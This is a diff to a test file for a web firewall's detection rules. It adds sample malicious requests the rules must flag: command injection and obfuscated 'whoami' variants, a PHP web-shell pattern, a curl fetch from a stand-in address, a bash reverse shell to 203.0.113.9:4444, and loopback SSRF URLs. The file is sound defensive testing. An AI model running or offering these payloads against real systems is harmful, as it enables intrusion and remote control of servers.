@@ -26,6 +26,9 @@ const CASES: Array<[number, RequestSpec, boolean]> = [
   [9000317, q('name=x%60id%60'), true],
   [9000317, json('{"host":"a$(whoami)"}'), true],
   [9000309, q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), true],
+  [9000342, form('cmd=for+/f+%22delims%3D%22+%25i+in+(%27whoami%27)+do+echo+%25i'), true],
+  [9000365, q('query=-Oecho+x'), true],
+  [9000343, q('query=+-Ocurl+http%3A%2F%2F203.0.113.9%2Fa'), true],
   [9000330, form('next=%0asys%5Et%5Eeminfo'), true],
   [9001315, form('x=%24_GET%5B%27f%27%5D(%24_GET%5B%27a%27%5D)'), true],
   [9000315, json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), true],
@@ -52,14 +55,28 @@ describe('bundled pcre-only rules in the prefilter', () => {
     expect(gateOf(sid).evaluate(buildInspection(upload)).candidates).toBe(0);
   });
 
-  it('9000528 (a loopback host in a URL) is no candidate on a head whose Host is the loopback proxy but that holds no URL', () => {
-    const gate = gateOf(9000528);
+  it('9000528 and its parts 9000540/9000541 (a loopback host in a URL) are no candidates on a head whose Host is the loopback proxy but that holds no URL', () => {
+    const gate = compileRules(rules.filter((r) => [9000528, 9000540, 9000541].includes(r.sid)));
     const hook = (body: string): RequestSpec => ({ method: 'POST', url: '/hook', headers: [['Host', '127.0.0.1:8080'], ['Content-Type', 'application/x-www-form-urlencoded']], body });
-    // "127.0" is one of its triggers: the condition is the URL's `://`, in any of its spellings.
+    // "127.0" is one of 9000528's triggers: the condition is the URL's `://`, in any of its spellings.
     expect(gate.evaluate(buildInspection(hook('note=walked+18+km'))).candidates).toBe(0);
-    for (const body of ['url=http://127.1/admin', 'url=http%3a%2f%2f127.0.1%2fadmin', 'url=gopher:\\/\\/2130706433/_x']) {
-      expect(gate.evaluate(buildInspection(hook(body))).hits.map((h) => h.sid), body).toEqual([9000528]);
-    }
+    const cases: Array<[string, number]> = [
+      ['url=http://127.1/admin', 9000540],
+      ['url=http%3a%2f%2f127.0.1%2fadmin', 9000540],
+      ['url=http://svc@0/admin', 9000541],
+      ['url=http%3a%2f%2fa%40127.1%2f', 9000541],
+      ['url=gopher:\\/\\/2130706433/_x', 9000528],
+    ];
+    for (const [body, sid] of cases) expect(gate.evaluate(buildInspection(hook(body))).hits.map((h) => h.sid), body).toEqual([sid]);
+  });
+
+  it('9000528 and its parts run on no URL that names an ordinary host, a port on the loopback, or an address (rev 2026-12-10u: 9000528 rev 3 ran on every URL)', () => {
+    const gate = compileRules(rules.filter((r) => [9000528, 9000540, 9000541].includes(r.sid)));
+    for (const spec of [
+      json('{"callback":"https://hooks.example.com/a/b","avatar":"https://cdn.example.net/u/7.png"}'),
+      form('return_to=https%3A%2F%2Fshop.example.org%2Fcart&ref=http%3A%2F%2Fblog.example.com%2F'),
+      header('Referer', 'https://www.example.com/search?q=shoes'),
+    ]) expect(gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).candidates).toBe(0);
   });
 
   it('scans a long body once for its own and the raw request\'s literals: the two automata merged keep 16-bit cells', async () => {
